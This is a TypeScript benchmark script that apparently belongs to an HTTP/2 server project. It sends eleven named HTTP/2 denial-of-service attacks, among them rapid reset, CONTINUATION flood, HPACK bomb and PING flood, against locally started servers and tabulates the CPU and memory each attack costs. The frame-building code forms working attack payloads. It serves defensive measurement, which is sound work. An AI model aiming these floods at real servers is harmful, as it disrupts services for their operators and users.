import { once } from "node:events";
import { readFileSync } from "node:fs";
import { connect, type Socket } from "node:net";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import {
  endHeaders,
  endStream,
  frame,
  grpcHeader,
  headerLine,
  preface,
  setting,
  types,
  uint32,
} from "../hostile/raw-http2.ts";
import { startNginx } from "../interop/fronts.ts";
import type { Missing, Peer } from "../interop/peers.ts";
import { foreignPeers, ours } from "../interop/peers.ts";
import { startServer } from "../interop/process.ts";
import { writeTable } from "./table.ts";
import { headersFrame, streamOf } from "./wire/http2.ts";

/**
 * `npm run fuzz -- http2-servers`: the attacks on HTTP/2 that have a name, on our server, a server
 * with Node's `node:http2`, grpc-go's and nginx, one after another. Prints the CPU time that a
 * megabyte of each costs the server, and the memory that it holds for a byte. `--write` updates the
 * table in docs/security.md. It needs Linux.
 */

/** The bytes of one attack that are sent to one server, over as many connections as needed. */
const mostBytes = 4_000_000;
const mostMs = 4_000;

const path = "/grpc.testing.TestService/EmptyCall";
const header = grpcHeader(path);
const reset = (stream: number) => frame(types.reset, 0, stream, uint32(8));
const noWindow = (stream: number) => frame(types.windowUpdate, 0, stream, uint32(0));
const tooWide = (stream: number) => frame(types.windowUpdate, 0, stream, uint32(2 ** 31 - 1));

/** A field of 3,900 bytes that enters the dynamic table, by a name that is new. */
const largeField = Buffer.concat([
  Buffer.from([0x40, 1, 0x78, 0x7f, 0xbd, 0x1d]),
  Buffer.alloc(3_900, 0x61),
]);

interface NamedAttack {
  readonly name: string;
  /** The bytes of a round on a connection. */
  readonly piece: (round: number) => Buffer;
}

const hundred = (piece: (index: number) => Buffer) => (round: number) =>
  Buffer.concat(Array.from({ length: 100 }, (_, at) => piece(100 * round + at)));

const attacks: readonly NamedAttack[] = [
  {
    name: "rapid reset",
    piece: hundred((index) =>
      Buffer.concat([headersFrame(streamOf(index), header), reset(streamOf(index))]),
    ),
  },
  {
    name: "made you reset",
    piece: hundred((index) =>
      Buffer.concat([headersFrame(streamOf(index), header), noWindow(streamOf(index))]),
    ),
  },
  {
    name: "reset by malformed requests",
    piece: hundred((index) =>
      frame(types.headers, endHeaders | endStream, streamOf(index), Buffer.of(0x82)),
    ),
  },
  {
    name: "CONTINUATION flood",
    piece: (round) =>
      Buffer.concat([
        ...(round === 0 ? [frame(types.headers, 0, 1, header)] : []),
        ...Array.from({ length: 10 }, () =>
          frame(types.continuation, 0, 1, headerLine("x", "y".repeat(100))),
        ),
      ]),
  },
  { name: "SETTINGS flood", piece: hundred(() => setting(4, 65_535)) },
  { name: "PING flood", piece: hundred(() => frame(types.ping, 0, 0, Buffer.alloc(8))) },
  {
    name: "WINDOW_UPDATE flood",
    piece: hundred(() => frame(types.windowUpdate, 0, 0, uint32(1))),
  },
  {
    name: "empty DATA flood",
    piece: (round) =>
      Buffer.concat([
        ...(round === 0 ? [headersFrame(1, header)] : []),
        ...Array.from({ length: 100 }, () => frame(types.data, 0, 1)),
      ]),
  },
  {
    name: "HPACK bomb",
    piece: (round) =>
      round === 0
        ? frame(types.headers, endHeaders | endStream, 1, Buffer.concat([header, largeField]))
        : frame(
            types.headers,
            endHeaders | endStream,
            streamOf(round),
            Buffer.concat([header, Buffer.alloc(4_000, 0xbe)]),
          ),
  },
  {
    name: "window overflow",
    piece: () => Buffer.concat([headersFrame(1, header), tooWide(1), tooWide(0), tooWide(0)]),
  },
  {
    name: "stream id exhaustion",
    piece: (round) => headersFrame(round === 0 ? 2 ** 31 - 1 : streamOf(round), header),
  },
];

interface Cost {
  readonly cpuMsPerMB: number;
  readonly heldPerByte: number;
}

interface RunningTarget {
  readonly address: string;
  readonly pid: number;
  stop(): Promise<unknown>;
}

interface ComparedServer {
  readonly name: string;
  start(): Promise<RunningTarget>;
}

const ofPeer = (name: string, peer: Peer): ComparedServer => ({
  name,
  start: () => startServer(peer.server(undefined), (line) => peer.address(line)),
});

const nodeHttp2: ComparedServer = {
  name: "Node's http2",
  start: () =>
    startServer(
      { argv: [process.execPath, join(import.meta.dirname, "node-http2-server.mjs")] },
      (line) => /^listening (\S+)/.exec(line)?.[1],
    ),
};

const servers: ComparedServer[] = [ofPeer("Micro-ES", ours), nodeHttp2];
const missing: Missing[] = [];
for (const peer of await foreignPeers("")) {
  if (peer.name !== "grpc-go") continue;
  if ("fix" in peer) missing.push(peer);
  else servers.push(ofPeer("grpc-go", peer));
}
const nginx = startNginx();
if ("fix" in nginx) missing.push(nginx);
else servers.push({ name: "nginx", start: nginx.start });

const costs = new Map<string, Map<string, Cost>>();
for (const { name } of attacks) costs.set(name, new Map());
for (const server of servers) {
  for (const attack of attacks) {
    // A process of its own, so that nothing of one attack is counted for another.
    const target = await server.start();
    try {
      const cost = await measure(target, attack);
      costs.get(attack.name)!.set(server.name, cost);
      console.error(`${server.name}, ${attack.name}: ${inWords(cost)}`);
    } finally {
      await target.stop();
    }
  }
}
const text = asTable();
console.log(text);
for (const { name, fix } of missing) console.log(`SKIPPED ${name}: ${fix}`);
if (process.argv.includes("--write")) {
  await writeTable(new URL("../../docs/security.md", import.meta.url), text, "http2");
}

async function measure(target: RunningTarget, { piece }: NamedAttack): Promise<Cost> {
  await warmUp(target);
  const before = usage(target.pid);
  let sent = 0;
  let mostHeld = 0;
  const until = performance.now() + mostMs;
  while (sent < mostBytes && performance.now() < until) {
    const socket = await open(target.address);
    for (let round = 0; sent < mostBytes && performance.now() < until; round++) {
      const bytes = piece(round);
      if (!(await write(socket, bytes))) break;
      sent += bytes.length;
    }
    mostHeld = Math.max(mostHeld, usage(target.pid).rss - before.rss);
    socket.destroy();
  }
  const { cpuMs } = usage(target.pid);
  return { cpuMsPerMB: (cpuMs - before.cpuMs) / (sent / 1e6), heldPerByte: mostHeld / sent };
}

/** Has the server compile and load what ordinary requests need. */
async function warmUp({ address }: RunningTarget): Promise<void> {
  const socket = await open(address);
  for (let index = 0; index < 200; index++) {
    const stream = streamOf(index);
    const request = [
      headersFrame(stream, header),
      frame(types.data, endStream, stream, Buffer.alloc(5)),
    ];
    if (!(await write(socket, Buffer.concat(request)))) break;
  }
  await sleep(300);
  socket.destroy();
}

async function open(address: string): Promise<Socket> {
  const [host, port] = address.split(":");
  const socket = connect(Number(port), host);
  socket.on("error", () => undefined);
  socket.resume();
  await once(socket, "connect");
  socket.write(Buffer.concat([preface, setting(4, 2 ** 30), frame(types.settings, 1, 0)]));
  return socket;
}

/** Writes, and waits until the socket accepts more. Returns whether the connection is open. */
async function write(socket: Socket, bytes: Buffer): Promise<boolean> {
  if (!socket.writable) return false;
  if (!socket.write(bytes)) {
    await Promise.race([
      new Promise<void>((resolve) => socket.once("drain", resolve)),
      new Promise<void>((resolve) => socket.once("close", resolve)),
      sleep(500),
    ]);
    socket.removeAllListeners("drain");
  }
  await new Promise(setImmediate);
  return socket.writable;
}

/** CPU time in milliseconds and resident memory in bytes of a process (proc(5)). */
function usage(pid: number): { cpuMs: number; rss: number } {
  const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
  const fields = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
  // A hundred ticks a second, and pages of 4 KiB.
  return {
    cpuMs: (Number(fields[11]) + Number(fields[12])) * 10,
    rss: Number(fields[21]) * 4_096,
  };
}

function inWords({ cpuMsPerMB, heldPerByte }: Cost): string {
  return `${cpuMsPerMB.toFixed(0)} ms, ${Math.max(0, heldPerByte).toFixed(1)} B`;
}

function asTable(): string {
  const line = (cells: readonly string[]) => `| ${cells.join(" | ")} |`;
  const names = servers.map(({ name }) => name);
  const rows = attacks.map(({ name }) =>
    line([name, ...names.map((server) => inWords(costs.get(name)!.get(server)!))]),
  );
  return [line(["Attack", ...names]), line(["---", ...names.map(() => "---")]), ...rows].join("\n");
}
